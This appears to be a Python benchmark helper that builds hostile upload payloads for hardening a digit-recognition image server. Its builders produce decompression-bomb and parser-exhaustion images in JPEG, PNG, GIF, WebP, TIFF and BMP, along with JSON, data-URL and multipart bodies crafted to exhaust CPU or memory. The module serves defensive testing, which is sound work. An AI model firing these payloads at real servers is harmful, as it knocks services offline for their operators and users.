"""Hostile request payloads: the attacks of the hardening issue, as pure byte builders.

Every function here is deterministic and does no I/O: it returns the bytes an attacker
would send (an image file or a JSON body). The defaults are the sizes the issue
reproduced the attacks with; ``benchmarks/adversarial.py`` replays them against a real
server and the tests may import them to build smaller versions. The big ones are cached,
so building one twice in a run costs nothing.

Images that the server should read show the digit that ``common.py`` draws (a "3").
"""

from __future__ import annotations

import base64
import functools
import io
import json
import struct
import zlib
from typing import Any

import numpy as np
from PIL import Image

try:  # run from benchmarks/, like every script there
    import common
except ModuleNotFoundError as exc:  # imported as benchmarks.hostile (pytest's pythonpath ".")
    if exc.name != "common":
        raise
    from benchmarks import common  # type: ignore[no-redef]

MAX_BODY = 10_000_000  # what "fills ~10 MB" means: just under the 10 MiB upload limit
PRIVATE_CHUNK = b"zzZz"  # PNG chunk type: ancillary, private, safe to copy


def _encode(img: Image.Image, fmt: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    img.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _png_chunk(tag: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(tag + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", crc)


# --- the small request ---------------------------------------------------------------------


def canvas_png() -> bytes:
    """What the web page sends: 280x280 RGBA, transparent, a black "3" (common.py's)."""
    return common.canvas_png()


# --- costly decodes --------------------------------------------------------------------------


@functools.cache
def progressive_jpeg_scans(width: int = 20000, height: int = 2500, repeats: int = 300) -> bytes:
    """A blank progressive JPEG whose last Huffman table + scan block is repeated.

    Each repeat is a valid extra scan that the decoder runs over the whole image again,
    for 97 bytes: ~65 ms of CPU per scan at 20000x2500 in Pillow at full size,
    ~17 ms in the 1/8-scale draft decode the server used (measured on 2 cores).
    """
    j = _encode(Image.new("L", (width, height), 255), "JPEG", progressive=True, quality=75)
    return j[:-2] + j[j.rfind(b"\xff\xc4") : -2] * repeats + j[-2:]


def progressive_repeats(width: int, height: int, target_bytes: int = MAX_BODY) -> int:
    """How many repeats make ``progressive_jpeg_scans(width, height, ...)`` about
    ``target_bytes`` long."""
    j = progressive_jpeg_scans(width, height, 0)
    block = len(j) - 2 - j.rfind(b"\xff\xc4")
    return max(0, (target_bytes - len(j)) // block)


@functools.cache
def png_many_chunks(
    count: int = 870_000, width: int = 280, height: int = 280, chunk_type: bytes = PRIVATE_CHUNK
) -> bytes:
    """A valid small PNG with ``count`` empty ancillary chunks before the first IDAT
    (~10 MB at the default): each one is parsed, CRC-checked and kept by Pillow."""
    png = canvas_png() if (width, height) == (280, 280) else _blank_png(width, height)
    first_idat = png.index(b"IDAT") - 4  # the chunk starts with its 4-byte length
    return png[:first_idat] + _png_chunk(chunk_type, b"") * count + png[first_idat:]


def _blank_png(width: int, height: int) -> bytes:
    return _encode(Image.new("L", (width, height), 255), "PNG")


@functools.cache
def jpeg_many_markers(count: int = 2_600_000, marker: int = 0xE5) -> bytes:
    """A small valid JPEG with ``count`` empty APPn markers (``FF E5 00 02``) after SOI;
    ``marker=0xFE`` gives COM markers. Pillow reads each one in Python."""
    jpeg = jpeg_photo(280, 280)
    return jpeg[:2] + bytes([0xFF, marker, 0x00, 0x02]) * count + jpeg[2:]


@functools.cache
def gif_many_comments(count: int = 3_300_000) -> bytes:
    """A small valid GIF with ``count`` empty comment extensions (21 FE 00) before the image."""
    gif = _encode(Image.open(io.BytesIO(canvas_png())).convert("L"), "GIF")
    # Header (6) + logical screen descriptor (7) + the global colour table, if any.
    flags = gif[10]
    start = 13 + (3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0)
    return gif[:start] + b"\x21\xfe\x00" * count + gif[start:]


@functools.cache
def png_huge_rgba(width: int = 20000, height: int = 2500) -> bytes:
    """A blank (transparent) RGBA PNG, ~200 KB; decoding costs ~1.4 s and ~330 MB."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)  # 8-bit RGBA
    packer = zlib.compressobj(9)
    row = bytes(1 + 4 * width)  # filter byte 0, then transparent black
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


@functools.cache
def webp_huge(side: int = 7000) -> bytes:
    """A blank lossless WebP of side x side (49 MP at the default, under a 50 MP limit):
    a few hundred bytes that decode to ~200 MB of RGBA."""
    return _encode(Image.new("RGBA", (side, side), (255, 255, 255, 0)), "WEBP", lossless=True)


@functools.cache
def tiff_huge(width: int = 20000, height: int = 2500) -> bytes:
    """A blank deflate-compressed RGBA TIFF: ~200 KB on the wire, 200 MB decoded."""
    img = Image.new("RGBA", (width, height), (255, 255, 255, 0))
    return _encode(img, "TIFF", compression="tiff_adobe_deflate")


def bmp_header_only(width: int = 100_000, height: int = 100_000, bits: int = 32) -> bytes:
    """A BMP header declaring ``width`` x ``height`` pixels with no pixel data behind it."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, 0, 0, 2835, 2835, 0, 0)
    offset = 14 + len(info)
    return b"BM" + struct.pack("<IHHI", offset, 0, 0, offset) + info


@functools.cache
def bmp_rle8_rows(width: int = 20000, height: int = 2500) -> bytes:
    """An 8-bit RLE BMP where every row is one pixel then "end of line": Pillow's RLE
    decoder is Python and pads each row one byte at a time (width x height iterations
    for ~4 bytes per row)."""
    palette = b"".join(bytes((v, v, v, 0)) for v in range(256))
    rows = (b"\x01\xff" + b"\x00\x00") * height + b"\x00\x01"  # 1 white pixel, EOL; EOB
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(rows), 2835, 2835, 256, 0)
    offset = 14 + len(info) + len(palette)
    return b"BM" + struct.pack("<IHHI", offset + len(rows), 0, 0, offset) + info + palette + rows


# --- unusual but legitimate images ------------------------------------------------------------


def _digit_bar(side: int) -> np.ndarray:
    """A dark "1"-like bar on light paper, as 16-bit grey."""
    a = np.full((side, side), 60000, dtype=np.uint16)
    a[side // 5 : side * 4 // 5, side * 9 // 20 : side * 11 // 20] = 3000
    return a


def _i16(side: int) -> Image.Image:
    return Image.frombytes("I;16", (side, side), _digit_bar(side).astype("<u2").tobytes())


@functools.cache
def png_16bit(side: int = 1536) -> bytes:
    """A 16-bit greyscale PNG (mode I;16) of a bar."""
    return _encode(_i16(side), "PNG")


@functools.cache
def tiff_16bit(side: int = 1536) -> bytes:
    """A 16-bit greyscale TIFF (mode I;16) of a bar."""
    return _encode(_i16(side), "TIFF")


def _photo(width: int, height: int) -> Image.Image:
    return Image.open(io.BytesIO(common.paper_jpeg(width, height))).convert("RGB")


@functools.cache
def mpo_photo(width: int = 2000, height: int = 1500) -> bytes:
    """A 2-frame MPO (as some phones save) of a photo of a digit on paper."""
    first = _photo(width, height)
    second = first.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    return _encode(first, "MPO", save_all=True, append_images=[second], quality=90)


@functools.cache
def jpeg_photo(width: int = 2000, height: int = 1500) -> bytes:
    """The first frame of ``mpo_photo``, as a plain JPEG: the same picture for comparison."""
    return _encode(_photo(width, height), "JPEG", quality=90)


# --- request bodies ---------------------------------------------------------------------------


def data_url_semicolons(count: int = 10_000_000) -> bytes:
    """``{"image": "data:image/png;;;;...;x"}``: a data URL with ``count`` empty parameters
    and no comma, for a regular expression to backtrack over."""
    return b'{"image": "data:image/png' + b";" * count + b'x"}'


def deep_json(depth: int = 100_000) -> bytes:
    """``{"image": [[[...]]]}`` nested ``depth`` levels."""
    return b'{"image": ' + b"[" * depth + b"]" * depth + b"}"


def multipart(parts: list[tuple[bytes, bytes]], boundary: bytes = b"b") -> tuple[bytes, str]:
    """A multipart/form-data body from ``(part headers, part content)`` pairs; returns the
    body and its Content-Type."""
    body = b"".join(b"--" + boundary + b"\r\n" + h + b"\r\n\r\n" + c + b"\r\n" for h, c in parts)
    return body + b"--" + boundary + b"--\r\n", f"multipart/form-data; boundary={boundary.decode()}"


def multipart_upload(image: bytes, field: str = "image") -> tuple[bytes, str]:
    """An ordinary upload of ``image`` in form field ``field``."""
    head = f'Content-Disposition: form-data; name="{field}"; filename="x.png"'.encode()
    return multipart([(head + b"\r\nContent-Type: image/png", image)])


def multipart_many_parts(count: int = 190_000) -> tuple[bytes, str]:
    """``count`` empty form fields, then the image (~10 MB at the default)."""
    fields, _ = multipart([(b'Content-Disposition: form-data; name="a"', b"")] * count)
    upload, kind = multipart_upload(canvas_png())
    return fields[: -len(b"--b--\r\n")] + upload, kind


def multipart_huge_name(length: int = 9_000_000) -> tuple[bytes, str]:
    """One part whose Content-Disposition carries a ``length``-character field name."""
    head = b'Content-Disposition: form-data; name="' + b"a" * length + b'"; filename="x.png"'
    return multipart([(head, canvas_png())])


def chunked(body: bytes, size: int = 1) -> bytes:
    """``body`` in HTTP/1.1 chunked transfer coding, ``size`` bytes per chunk."""
    step = f"{size:x}\r\n".encode()
    out = bytearray()
    for i in range(0, len(body) - len(body) % size, size):
        out += step + body[i : i + size] + b"\r\n"
    if len(body) % size:
        out += f"{len(body) % size:x}\r\n".encode() + body[-(len(body) % size) :] + b"\r\n"
    return bytes(out + b"0\r\n\r\n")


def json_body(image: bytes) -> bytes:
    """``{"image": "<base64>"}``."""
    return json.dumps({"image": base64.b64encode(image).decode()}).encode()
